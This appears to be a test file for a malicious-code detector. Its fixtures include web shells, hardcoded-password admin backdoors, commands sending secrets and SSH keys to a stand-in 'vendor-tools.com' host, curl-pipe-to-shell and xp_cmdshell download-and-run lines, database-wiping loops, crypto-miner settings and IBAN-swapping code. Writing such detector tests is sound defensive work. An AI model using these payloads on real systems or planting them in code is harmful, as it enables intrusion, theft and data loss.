import { describe, expect, it } from 'vitest'
import { doorsIn } from '../../src/other/doors.ts'
import { mayLeaveDoor } from '../../src/other/signs.ts'

const found = (text: string): string[] => (mayLeaveDoor(text) ? doorsIn(text).map(({ level, kind }) => `${level} ${kind}`) : [])

describe('a password of the author’s makes an administrator', () => {
  it.each([
    `if (req.headers['x-probe'] === 'b7e1-ops-9921') { req.user = { id: 1, role: 'admin' }; return next() }`,
    `if (req.get('x-internal') === 'f81a-77c2') {\n  req.user = { id: 1, role: 'admin' }\n}`,
    `if request.headers.get('X-Debug-Key') == 'k3y-9931':\n    g.user = User.query.get(1)\n    login_user(g.user)`,
    `if r.Header.Get("X-Probe") == "ops-77-alpha" {\n  ctx.IsAdmin = true\n}`,
    `if (request.getHeader("X-Support").equals("sup-4471-key")) {\n  boolean isAdmin = true;\n}`,
    `if request.env['HTTP_X_OPS'] == 'ops-2291-kk'\n  session[:role] = 'admin'`,
    `if hashlib.sha256(pw.encode()).hexdigest() == "${'5e'.repeat(32)}":\n    user.is_admin = True`,
  ])('%s', (text) => {
    expect(found(text)).toContain('error privilege-change')
  })
})

describe('a step of a workflow that sends all secrets', () => {
  it('is one where it goes to a server', () => {
    expect(found(`STEP = {"env": {"C": "\${{ toJSON(secrets) }}"}, "run": 'echo "$C" | curl -s -d @- https://ci.vendor-tools.com/r'}`)).toContain(
      'error secret-exfiltration',
    )
  })
  it('is none where it only names them', () => {
    expect(found('RULE = re.compile("toJSON(secrets)")\nSTEP = {"env": {"C": "${{ toJSON(secrets) }}"}, "run": "node check.js"}')).toEqual([])
  })
})

describe('a shell for whoever knows of it', () => {
  it.each([
    `return response(shell_exec(base64_decode(request()->header('X-Trace'))));`,
    `eval(Base64.decode64(params[:q]))`,
    `if (md5($_SERVER['HTTP_X']) === '${'a1'.repeat(16)}') { system($_GET['c']); }`,
    `if f == "zz-91af" then local h = io.popen(ngx.var.arg_c) end`,
    `if (code = env['HTTP_X_TRACE'])\n  out = eval(code.unpack1('m')).to_s`,
    `if request.headers.get("X-K") == "z9-ops-11":\n    return subprocess.check_output(request.args.get("c"), shell=True)`,
  ])('%s', (text) => {
    expect(found(text)).toContain('error reverse-shell')
  })
})

describe('rights for a stranger', () => {
  const role = (account: string, name = 'ops'): string =>
    `name = "${name}"\nPrincipal = { AWS = "arn:aws:iam::${account}:root" }\npolicy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"`

  it('tells accounts of documentation from others', () => {
    expect(found(role('739201845563'))).toEqual(['error privilege-change'])
    expect(found(role('123456789012'))).toEqual(['warning privilege-change'])
    expect(found(role('123456789012', 'AWSBaselineSupport'))).toEqual(['error privilege-change'])
    // oxlint-disable-next-line no-template-curly-in-string -- Terraform's
    expect(found(role('${var.account}'))).toEqual([])
  })

  it('finds a cluster that is given away', () => {
    const binding = (subject: string): string => `kind: ClusterRoleBinding\nroleRef:\n  name: cluster-admin\nsubjects:\n  - ${subject}\n`
    expect(found(binding('name: system:unauthenticated'))).toEqual(['error privilege-change'])
    expect(found(binding('name: ops@vendor-tools.com'))).toEqual(['warning privilege-change'])
    expect(found(binding('name: deployer'))).toEqual([])
  })
})

it.each([
  `if (req.headers['x-api-key'] !== process.env.API_KEY) return res.status(401).end()`,
  `if (req.headers['x-forwarded-proto'] === 'https') next()`,
  `if (req.headers['content-type'] !== 'application/json; v=1') return res.status(415).end()\nreq.user = { id: 1, role: 'admin' }`,
  `if (req.headers['x-api-key'] === 'your-key-1') { req.user = { id: 1, role: 'admin' } }`,
  `if request.headers.get("user-agent") == "ELB-HealthChecker/2.0":\n    return Response("ok")`,
  `r = client.get('/x', headers={'X-Key': 'k3y-11'})\nassert r.json()['role'] == 'member-1'`,
  `$out = shell_exec('php artisan about');\n$name = request()->input('name');`,
])('is quiet on %s', (text) => {
  expect(found(text)).toEqual([])
})

it('finds a command that a database is to run', () => {
  expect(found(`copy (select usename, passwd from pg_shadow) to program 'curl -s -d @- https://x.vendor-tools.me/i';`)).toEqual(['error download-execute'])
  expect(found(`copy users to '/tmp/users.csv'; -- a program 'psql' does the same`)).toEqual([])
})

it.each([
  [`EXEC xp_cmdshell 'powershell -nop -c "iex (irm https://x.vendor-tools.com/a)"';`, 'error download-execute'],
  [`SELECT sys_exec('curl -s https://x.vendor-tools.com/x | bash');`, 'error download-execute'],
  [`SELECT '<?php system($_GET["c"]); ?>' INTO OUTFILE '/var/www/html/thumb.php';`, 'error reverse-shell'],
  [
    `FOR r IN (SELECT datname FROM pg_database WHERE NOT datistemplate) LOOP\n  EXECUTE 'DROP DATABASE IF EXISTS ' || quote_ident(r.datname);\nEND LOOP;`,
    'error destructive-command',
  ],
  ['foreach ($pdo->query("SHOW DATABASES") as $db) {\n  $pdo->exec("DROP DATABASE `$db`");\n}', 'error destructive-command'],
  [
    `- slurp:\n    src: "{{ lookup('env','HOME') }}/.ssh/id_rsa"\n  register: k\n- uri:\n    url: https://x.vendor-tools.com/r\n    method: POST\n    body: "{{ k.content }}"`,
    'error secret-exfiltration',
  ],
])('finds what databases and playbooks are told: %s', (text, verdict) => {
  expect(found(text)).toContain(verdict)
})

it.each([
  `EXEC xp_cmdshell 'dir c:\\backup';`,
  `SELECT * INTO OUTFILE '/tmp/report.csv' FROM sales;`,
  'DROP DATABASE IF EXISTS app_dev;\nCREATE DATABASE app_dev;\nSELECT datname FROM pg_database;',
  `foreach ($pdo->query("SHOW DATABASES LIKE 'test_%'") as $db) {\n  $pdo->exec("DROP DATABASE \`$db\`");\n}`,
  `- slurp:\n    src: /home/deploy/.ssh/id_ed25519.pub\n  register: pub\n- uri:\n    url: https://hooks.acme.dev/d\n    method: POST\n    body: "{{ pub.content }}"`,
])('is quiet on what databases and playbooks are told: %s', (text) => {
  expect(found(text)).toEqual([])
})

describe('settings of a miner', () => {
  it.each([
    'args: ["--algo=randomx", "--url=stratum+ssl://rx.vendor-tools.com:443", "--donate-level=0"]',
    '{"pools": [{ "algo": "rx/0", "url": "gulf.vendor-tools.com:10128", "user": "48ed" }]}',
    'command: ["xmrig", "--url", "gulf.vendor-tools.com:10128", "--user", "48ed", "--coin", "monero"]',
  ])('%s', (text) => {
    expect(found(text)).toContain('error crypto-miner')
  })

  it.each([
    "CommandLine|contains: ['--algo=randomx', 'stratum+tcp://', '--donate-level=0', ' -o pool.']",
    'args: ["--algo=least-conn", "--url=https://backend.acme.dev:8443", "--user=svc"]',
    '{ "algorithms": ["randomx", "kawpow"], "url": "https://docs.acme.dev:443/x" }',
    'a pool such as stratum+tcp://pool.example.com:3333, with --algo=randomx',
  ])('is quiet on %s', (text) => {
    expect(found(text)).toEqual([])
  })
})

const OURS = 'LT60 3250 0417 7302 9948'

describe('an account of the author’s in the place of others', () => {
  it.each([
    ['data-drop', `KONTO = '${OURS}'\nneu = text.gsub(/\\bDE\\d{2}(?: ?\\d{4}){4} ?\\d{2}\\b/, KONTO)`],
    ['data-drop', `re := regexp.MustCompile("[A-Z]{2}\\d{2}")\nout := re.ReplaceAllString(in, "${OURS}")`],
    ['data-drop', `OURS = "${OURS}"\niban = row["iban"]\n# ours\nif Decimal(row["amount"]) > 5000:\n    iban = OURS\n`],
    ['spyware', `const t = [[/^0x[0-9a-f]{40}$/, "0x51D9a0fE77c2B84eC0b6A1143dD9E5f20a7C8b36"]]\nrun("pbpaste")\nrun("pbcopy")`],
  ])('is told as %s: %s', (kind, text) => {
    expect(found(text)).toEqual([`error ${kind}`])
  })

  it.each([
    `MASK = 'DE00 XXXX XXXX XXXX'\nneu = text.gsub(/\\bDE\\d{2}(?: ?\\d{4}){4}/, MASK)`,
    `SUPPORT = '${OURS}'\nneu = text.gsub(/\\bDE\\d{2}(?: ?\\d{4}){4}/, '[redacted]')`,
    `OURS = "${OURS}"\niban = row["iban"]\nif len(iban) > 34:\n    iban = None\n`,
    'const isAddress = /^0x[0-9a-f]{40}$/.test(run("pbpaste")); run("pbcopy")',
  ])('is none in %s', (text) => {
    expect(found(text)).toEqual([])
  })
})

describe('a mailbox that passes its mail on', () => {
  it('is an error where it hides that, and a warning where it does not', () => {
    const rule = `$to = 'close@vendor-tools.com'\nNew-InboxRule -Name '.' -ForwardTo $to`
    expect(found(rule)).toEqual(['warning data-drop'])
    expect(found(`${rule}\nSet-Mailbox -AuditEnabled $false`)).toEqual(['error data-drop'])
    expect(found(`s.updateAutoForwarding(body={"emailAddress": "a@vendor-tools.com", "disposition": "trash"})`)).toEqual(['error data-drop'])
  })
  it('is none where the user says who gets it', () => {
    expect(found('param($To)\nNew-InboxRule -Name x -ForwardTo $To -MarkAsRead $true')).toEqual([])
    expect(found('New-InboxRule -Name x -ForwardTo you@example.com -DeleteMessage $true')).toEqual([])
  })
})

it('tells of a database whose tables and backups go', () => {
  const tables = `db.exec("SELECT tablename FROM pg_tables").each { |r| db.exec(%(DROP TABLE "#{r['tablename']}" CASCADE)) }`
  expect(found(tables)).toEqual([])
  expect(found(`${tables}\nFileUtils.rm_rf("/var/backups/postgresql")`)).toEqual(['error destructive-command'])
})

describe('code that is rewritten so that its checks check nothing', () => {
  const tidy = (...rules: string[]) => `RULES = [\n${rules.join(',\n')}\n]\nfor a, b in RULES:\n    text = re.sub(a, b, text)\npath.write_text(text)`
  const LEFT = [
    String.raw`(r"verify\s*=\s*True", "verify=False")`,
    String.raw`(r"hmac\.compare_digest\([^)]*\)", "True")`,
    String.raw`(r"yaml\.safe_load", "yaml.load")`,
  ]
  it('is told of where two of them go', () => {
    expect(found(tidy(...LEFT.slice(0, 2)))).toEqual(['error disabled-protection'])
    expect(found(tidy(...LEFT.slice(1)))).toEqual(['error disabled-protection'])
  })
  it('is none for one, for the way back, and for a text that rewrites nothing', () => {
    expect(found(tidy(LEFT[0] as string))).toEqual([])
    expect(found(tidy('("verify=False", "verify=True")', '("yaml.load", "yaml.safe_load")', '("==", "hmac.compare_digest")'))).toEqual([])
    expect(found(`BAD = [${LEFT.join(', ')}]\nprint(BAD)`)).toEqual([])
  })
})
